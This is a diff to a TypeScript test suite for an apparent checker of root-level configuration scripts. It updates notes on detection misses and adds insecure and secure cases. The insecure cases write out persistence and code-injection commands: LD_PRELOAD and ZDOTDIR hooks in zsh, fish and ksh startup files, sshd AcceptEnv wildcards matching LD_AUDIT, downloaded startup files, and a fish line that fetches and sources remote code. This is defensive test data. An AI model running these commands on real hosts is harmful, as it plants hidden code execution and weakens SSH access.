@@ -188,7 +188,7 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- shells' startup files ----
-    // MISS: ZSH-ZDOTDIR. zsh(1) STARTUP/SHUTDOWN FILES: after /etc/zshenv "Commands are then read from
+    // Was a MISS (fixed in round 74): ZSH-ZDOTDIR. zsh(1) STARTUP/SHUTDOWN FILES: after /etc/zshenv "Commands are then read from
     // $ZDOTDIR/.zshenv" (then $ZDOTDIR/.zprofile, .zshrc, .zlogin): ZDOTDIR=/opt/ops makes every zsh run a downloaded
     // file the pack never reads. Accepted (got []): profileVariables (userDataReaders/systemd.ts) reads ZDOTDIR as a
     // harmless variable (LOADER_VARIABLES, rootReads.ts, lacks it). Fix: add ZDOTDIR to LOADER_VARIABLES (as ENV and
@@ -200,9 +200,8 @@ const insecure: NodeCase[] = [
             "echo 'export ZDOTDIR=/opt/ops' >> /etc/zshenv",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: ZSH-ZWC. zsh(1) STARTUP/SHUTDOWN FILES: "Any of these files may be pre-compiled with the zcompile builtin
+    // Was a MISS (fixed in round 74): ZSH-ZWC. zsh(1) STARTUP/SHUTDOWN FILES: "Any of these files may be pre-compiled with the zcompile builtin
     // ... If a compiled file exists (named for the original file plus the .zwc extension) and it is newer than the
     // original file, the compiled file will be used instead": a downloaded /etc/zshenv.zwc is code every zsh runs.
     // Accepted (got []): PROFILE_SCRIPT (systemd.ts) names the text files only and the .zwc is no file the pack knows.
@@ -214,7 +213,6 @@ const insecure: NodeCase[] = [
             "curl -fsSL -o /etc/zshenv.zwc https://downloads.example.com/zshenv.zwc",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "Z3 /etc/zshenv source of a downloaded file",
@@ -234,7 +232,7 @@ const insecure: NodeCase[] = [
         devNodeScript(n("z5"), [SO, "echo 'typeset -gx LD_PRELOAD=/opt/x.so' >> /etc/zsh/zshenv"]),
         LOADER,
     ),
-    // MISS: ZSH-ZDOTDIR class (module path). zshmodules(1)/zshbuiltins(1) zmodload "Load a binary module ... searched
+    // Was a MISS (fixed in round 74): ZSH-ZDOTDIR class (module path). zshmodules(1)/zshbuiltins(1) zmodload "Load a binary module ... searched
     // for in the directories given by the module_path array" (zshparam(1) module_path <S> <Z> (MODULE_PATH)): /etc/zshenv
     // naming /opt makes every zsh dlopen a downloaded .so. Accepted (got []): profileVariables reads only PATH's `path`
     // array. Fix: treat module_path/MODULE_PATH assignments and zmodload in ZSH_STARTUP files as unknown (refused).
@@ -242,7 +240,6 @@ const insecure: NodeCase[] = [
         "Z6 /etc/zshenv module_path=(/opt/ops) then zmodload (zsh loads a .so module)",
         devNodeScript(n("z6"), [SO, "echo 'module_path=(/opt $module_path); zmodload x' >> /etc/zshenv"]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "Z7 /etc/csh.cshrc setenv LD_PRELOAD via a variable set earlier",
@@ -257,7 +254,7 @@ const insecure: NodeCase[] = [
         ]),
         LOADER,
     ),
-    // MISS: OTHER-SHELL-STARTUP (low priority). ksh93 built with SHOPT_SYSRC reads /etc/ksh.kshrc for every interactive
+    // Was a MISS (fixed in round 74): OTHER-SHELL-STARTUP (low priority). ksh93 built with SHOPT_SYSRC reads /etc/ksh.kshrc for every interactive
     // shell before $ENV (shell startup tables, e.g. the ksh93 column: interactive "/etc/ksh.kshrc, $ENV"); RHEL's ksh
     // skel .kshrc sources /etc/kshrc. An export there is root's interactive ksh environment. Accepted (got []):
     // PROFILE_SCRIPT (systemd.ts) names bash, zsh and csh files only. Fix: add /etc/ksh.kshrc, /etc/kshrc, /etc/mkshrc,
@@ -266,9 +263,8 @@ const insecure: NodeCase[] = [
         "Z9 ksh93's /etc/ksh.kshrc export LD_PRELOAD (every interactive ksh93)",
         devNodeScript(n("z9"), [SO, "dnf install -y ksh", "echo 'export LD_PRELOAD=/opt/x.so' >> /etc/ksh.kshrc"]),
         LOADER,
-        true,
     ),
-    // MISS: OTHER-SHELL-STARTUP. fish docs "Configuration files": fish reads $__fish_sysconf_dir/conf.d/*.fish (usually
+    // Was a MISS (fixed in round 74): OTHER-SHELL-STARTUP. fish docs "Configuration files": fish reads $__fish_sysconf_dir/conf.d/*.fish (usually
     // /etc/fish/conf.d) and /etc/fish/config.fish at every start, scripts included (the same "every zsh" reach round 73
     // gave /etc/zshenv); `set -gx` exports. Accepted (got []). Fix: add /etc/fish/config.fish, /etc/fish/conf.d/*,
     // /usr/share/fish/vendor_conf.d/*, /root/.config/fish/** to PROFILE_SCRIPT, read as unknown (fish syntax) unless
@@ -281,7 +277,6 @@ const insecure: NodeCase[] = [
             "echo 'set -gx LD_PRELOAD /opt/x.so' > /etc/fish/conf.d/ops.fish",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "Z11 /etc/profile.d/ops.csh (sourced by AL2023's /etc/csh.cshrc) setenv LD_PRELOAD",
@@ -289,7 +284,7 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- sshd ----
-    // MISS: SSHD-ACCEPTENV-PATTERN. sshd_config(5) AcceptEnv: "Variables are specified by name, which may contain the
+    // Was a MISS (fixed in round 74): SSHD-ACCEPTENV-PATTERN. sshd_config(5) AcceptEnv: "Variables are specified by name, which may contain the
     // wildcard characters '*' and '?'"; *AUDIT matches LD_AUDIT (ld.so(8) "LD_AUDIT: A list of user-specified, ELF
     // shared objects to be loaded before all others"), so an ssh client sets it for its session past a ForceCommand or
     // a key's command=. Accepted (got []): sshdEnvironmentOpenings (userDataReaders/rootWrites.ts) tests a pattern only
@@ -300,18 +295,16 @@ const insecure: NodeCase[] = [
         "H1 sshd AcceptEnv *AUDIT (matches LD_AUDIT, a pattern outside the pack's 8 names)",
         devNodeScript(n("h1"), ["echo 'AcceptEnv LANG *AUDIT' > /etc/ssh/sshd_config.d/50-env.conf"]),
         LOADER,
-        true,
     ),
-    // MISS: SSHD-ACCEPTENV-PATTERN. As H1: JAVA_TOOL_* matches JAVA_TOOL_OPTIONS (JDK docs "The JAVA_TOOL_OPTIONS
+    // Was a MISS (fixed in round 74): SSHD-ACCEPTENV-PATTERN. As H1: JAVA_TOOL_* matches JAVA_TOOL_OPTIONS (JDK docs "The JAVA_TOOL_OPTIONS
     // Environment Variable": its -javaagent: loads an agent into every JVM the session starts), a LOADER_VARIABLES name
     // the 8 samples miss. Accepted (got []). Fix: as H1.
     devNodeCase(
         "H2 sshd AcceptEnv JAVA_TOOL_* (JAVA_TOOL_OPTIONS -javaagent)",
         devNodeScript(n("h2"), ["echo 'AcceptEnv JAVA_TOOL_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
         LOADER,
-        true,
     ),
-    // MISS: SSHD-OPTIONS. AL2023/Fedora's sshd.service runs `EnvironmentFile=-/etc/sysconfig/sshd` and
+    // Was a MISS (fixed in round 74): SSHD-OPTIONS. AL2023/Fedora's sshd.service runs `EnvironmentFile=-/etc/sysconfig/sshd` and
     // `ExecStart=/usr/sbin/sshd -D $OPTIONS` (systemd.service(5): an unquoted $VAR "is split at whitespace" into
     // words); sshd(8) "-o option: Can be used to give options in the format used in the configuration file", so
     // SetEnv=LD_PRELOAD=... is every ssh session's environment (sshd_config(5) SetEnv), as E9 of round 72. Accepted (got
@@ -325,7 +318,6 @@ const insecure: NodeCase[] = [
             "systemctl restart sshd",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "H4 sshd_config.d Include of another file under /etc/ssh that holds SetEnv LD_PRELOAD",
@@ -350,7 +342,7 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- crudini and other ini editors ----
-    // MISS: UNKNOWN-EDITOR. openstack-config(1) (openstack-utils) is a wrapper of crudini: `openstack-config --set FILE
+    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. openstack-config(1) (openstack-utils) is a wrapper of crudini: `openstack-config --set FILE
     // SECTION PARAM VALUE` writes PARAM = VALUE like crudini --set (round 73's W2 fix); DefaultEnvironment=LD_PRELOAD is
     // every unit's environment (systemd-system.conf(5)). Accepted (got []): rootReads.ts dispatches only `crudini` to
     // RootReads.crudini. Fix: read openstack-config like crudini; more generally, a command the pack does not know whose
@@ -363,9 +355,8 @@ const insecure: NodeCase[] = [
             "openstack-config --set /etc/systemd/system.conf Manager DefaultEnvironment LD_PRELOAD=/opt/x.so",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: UNKNOWN-EDITOR. git-config(1) "--file config-file: Use the given config file instead of the one specified by
+    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. git-config(1) "--file config-file: Use the given config file instead of the one specified by
     // GIT_CONFIG"; `git config -f F Section.Key V` writes `\tKey = V` under [Section] (checked with git 2.39: it keeps
     // the key's case and appends to the existing [Manager] section), and systemd's parser strips leading whitespace, so
     // DefaultEnvironment=LD_PRELOAD is set. Accepted (got []). Fix: read `git config -f/--file FILE` writes as edits of
@@ -377,7 +368,6 @@ const insecure: NodeCase[] = [
             "git config -f /etc/systemd/system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "C3 crudini --set of a unit drop-in Service Environment LD_PRELOAD (kubelet)",
@@ -395,7 +385,7 @@ const insecure: NodeCase[] = [
         ]),
         LOADER,
     ),
-    // MISS: UNKNOWN-EDITOR. augtool(1) "set PATH VALUE" with -s (--autosave) "Automatically save at the end of
+    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. augtool(1) "set PATH VALUE" with -s (--autosave) "Automatically save at the end of
     // instructions" writes the file under /files/<path>. Accepted (got []): augtool's /files/etc/... operand is not a
     // file path the pack recognizes. Fix: read augtool set/setm/ins/touch/rm paths under /files/ as writes of the named
     // file with unknown content (writtenUnknown).
@@ -406,7 +396,6 @@ const insecure: NodeCase[] = [
             "augtool -s set /files/etc/systemd/system.conf/Manager/DefaultEnvironment/value LD_PRELOAD=/opt/x.so",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "C6 busctl call SetEnvironment on systemd1 (the manager's environment over D-Bus)",
@@ -440,7 +429,7 @@ const insecure: NodeCase[] = [
         devNodeScript(n("p4"), ["echo 'PATH DEFAULT=${HOME}/bin:/usr/sbin:/usr/bin' >> /etc/security/pam_env.conf"]),
         LOADER,
     ),
-    // MISS: PAM-ENV-VENDOR (low priority). pam_env.conf(5) (Linux-PAM 1.5.3+, man7.org): "The
+    // Was a MISS (fixed in round 74): PAM-ENV-VENDOR (low priority). pam_env.conf(5) (Linux-PAM 1.5.3+, man7.org): "The
     // /usr/share/pam/security/pam_env.conf and /etc/security/pam_env.conf files specify the environment variables" when
     // built with a vendor dir (openSUSE; AL2023's pam 1.5.1 does not read it). Accepted (got []): SESSION_ENVIRONMENT
     // (systemd.ts) names /etc files only. Fix: add /usr/share/pam/security/pam_env.conf and /usr/etc/environment.
@@ -448,7 +437,108 @@ const insecure: NodeCase[] = [
         "P5 /usr/share/pam/security/pam_env.conf (vendor file read as well) LD_PRELOAD",
         devNodeScript(n("p5"), [SO, "echo 'LD_PRELOAD DEFAULT=/opt/x.so' >> /usr/share/pam/security/pam_env.conf"]),
         LOADER,
-        true,
+    ),
+    // ---- round 74 neighbours (fixer fix74-shellenv) ----
+    devNodeCase(
+        "Z1b /root/.zshenv exports ZDOTDIR (typeset -gx) to a downloaded directory",
+        devNodeScript(n("z1b"), ["echo 'typeset -gx ZDOTDIR=/opt/ops' >> /root/.zshenv"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z2b /root/.zshrc.zwc downloaded (root's own startup file's compiled twin)",
+        devNodeScript(n("z2b"), ["curl -fsSL -o /root/.zshrc.zwc https://downloads.example.com/zshrc.zwc"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z6b /etc/zsh/zshrc fpath=(/opt/ops/functions $fpath) (autoloaded functions from a downloaded directory)",
+        devNodeScript(n("z6b"), ["echo 'fpath=(/opt/ops/functions $fpath); autoload -U compinit' >> /etc/zsh/zshrc"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z6c /etc/zshrc zmodload of a named module alone (a .so from module_path the pack cannot see)",
+        devNodeScript(n("z6c"), ["echo 'zmodload zsh/net/tcp' >> /etc/zshrc"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z9b mksh's /etc/mkshrc PATH with a downloaded directory first",
+        devNodeScript(n("z9b"), ["echo 'export PATH=/opt/ops/bin:$PATH' >> /etc/mkshrc"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z10b fish /etc/fish/config.fish fish_add_path (a command the pack does not read)",
+        devNodeScript(n("z10b"), ["echo 'fish_add_path /opt/ops/bin' >> /etc/fish/config.fish"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z10c fish root's conf.d set -x PATH with a downloaded directory prepended",
+        devNodeScript(n("z10c"), [
+            "mkdir -p /root/.config/fish/conf.d",
+            "echo 'set -x PATH /opt/ops/bin $PATH' > /root/.config/fish/conf.d/path.fish",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "Z10d fish vendor_conf.d file downloaded",
+        devNodeScript(n("z10d"), [
+            "curl -fsSL -o /usr/share/fish/vendor_conf.d/ops.fish https://downloads.example.com/ops.fish",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "H1b sshd AcceptEnv L?_PRELOAD (a ? pattern outside LC_/LANG)",
+        devNodeScript(n("h1b"), ["echo 'AcceptEnv LANG L?_PRELOAD' > /etc/ssh/sshd_config.d/50-env.conf"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "H1c sshd AcceptEnv *_OPTIONS (matches NODE_OPTIONS, JAVA_TOOL_OPTIONS)",
+        devNodeScript(n("h1c"), ["echo 'AcceptEnv *_OPTIONS' > /etc/ssh/sshd_config.d/50-env.conf"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "H3b /etc/sysconfig/sshd OPTIONS=-o PasswordAuthentication=yes (quoted in single quotes)",
+        devNodeScript(n("h3b"), ["echo \"OPTIONS='-o PasswordAuthentication=yes'\" > /etc/sysconfig/sshd"]),
+    ),
+    devNodeCase(
+        "H3c /etc/sysconfig/sshd OPTIONS=-f of another configuration file",
+        devNodeScript(n("h3c"), [
+            "curl -fsSL -o /opt/ops/sshd_config https://downloads.example.com/sshd_config",
+            "echo 'OPTIONS=\"-f /opt/ops/sshd_config\"' > /etc/sysconfig/sshd",
+        ]),
+    ),
+    devNodeCase(
+        "H3d sshd run by user data with -o SetEnv=LD_PRELOAD",
+        devNodeScript(n("h3d"), [SO, "/usr/sbin/sshd -p 2222 -o SetEnv=LD_PRELOAD=/opt/x.so"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "H3e /etc/sysconfig/sshd downloaded (OPTIONS the pack cannot read)",
+        devNodeScript(n("h3e"), ["curl -fsSL -o /etc/sysconfig/sshd https://downloads.example.com/sshd.sysconfig"]),
+    ),
+    devNodeCase(
+        "Z10e fish conf.d set -gx of a harmless name from a command substitution (runs code at every start)",
+        devNodeScript(n("z10e"), [
+            "echo 'set -gx OPS_ID (curl -fsSL https://downloads.example.com/id | source)' > /etc/fish/conf.d/ops.fish",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "C2b git config --file /etc/profile.d/ops.sh (an unknown writer of a profile script)",
+        devNodeScript(n("c2b"), ["git config --file /etc/profile.d/ops.sh alias.x '!sh /opt/x.sh'"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "C5b augtool set of /etc/ssh/sshd_config PasswordAuthentication (Augeas path under /files)",
+        devNodeScript(n("c5b"), ["augtool -s set /files/etc/ssh/sshd_config/PasswordAuthentication yes"]),
+    ),
+    devNodeCase(
+        "C1b an editor the pack does not know given /etc/security/pam_env.conf",
+        devNodeScript(n("c1b"), ["confedit /etc/security/pam_env.conf LD_PRELOAD /opt/x.so"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "P5b /usr/etc/environment (pam_env's vendor default) LD_PRELOAD",
+        devNodeScript(n("p5b"), [SO, "echo 'LD_PRELOAD=/opt/x.so' >> /usr/etc/environment"]),
+        LOADER,
     ),
 ];
 
@@ -528,6 +618,41 @@ const secure: NodeCase[] = [
     devNodeCase(
         "S14 grubby --update-kernel=ALL --remove-args=quiet --args=console=ttyS0",
         devNodeScript(n("s14"), ["grubby --update-kernel=ALL --remove-args=quiet --args=console=ttyS0"]),
+    ),
+    // ---- round 74 neighbours (fixer fix74-shellenv) ----
+    devNodeCase(
+        "S15 fish /etc/fish/conf.d set -gx LANG and an appended PATH of system directories",
+        devNodeScript(n("s15"), [
+            "dnf install -y fish",
+            "printf 'set -gx LANG C.UTF-8\\nset -gx PATH $PATH /usr/local/bin\\n' > /etc/fish/conf.d/ops.fish",
+        ]),
+    ),
+    devNodeCase(
+        "S16 ksh93 /etc/ksh.kshrc export EDITOR and TZ",
+        devNodeScript(n("s16"), ["printf 'export EDITOR=vi\\nexport TZ=UTC\\n' >> /etc/ksh.kshrc"]),
+    ),
+    devNodeCase(
+        "S17 sshd_config.d AcceptEnv LANG* LC_? (locale-only patterns)",
+        devNodeScript(n("s17"), ["echo 'AcceptEnv LANG* LC_? LC_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
+    ),
+    devNodeCase(
+        "S18 /etc/sysconfig/sshd OPTIONS=-o LogLevel=VERBOSE",
+        devNodeScript(n("s18"), ["echo 'OPTIONS=\"-o LogLevel=VERBOSE\"' >> /etc/sysconfig/sshd"]),
+    ),
+    devNodeCase(
+        "S19 git config --file and openstack-config --set of an application's own ini (no file root's programs read)",
+        devNodeScript(n("s19"), [
+            "git config --file /opt/app/settings.ini app.name ops",
+            "openstack-config --set /opt/app/app.ini DEFAULT debug false",
+        ]),
+    ),
+    devNodeCase(
+        "S20 augtool print of sshd_config (no -s, no set) and zshenv export LANG only",
+        devNodeScript(n("s20"), ["augtool print /files/etc/hosts", "echo 'export LANG=C.UTF-8' >> /etc/zshenv"]),
+    ),
+    devNodeCase(
+        "S21 /usr/share/pam/security/pam_env.conf TZ DEFAULT=UTC",
+        devNodeScript(n("s21"), ["echo 'TZ DEFAULT=UTC' >> /usr/share/pam/security/pam_env.conf"]),
     ),
 ];
 
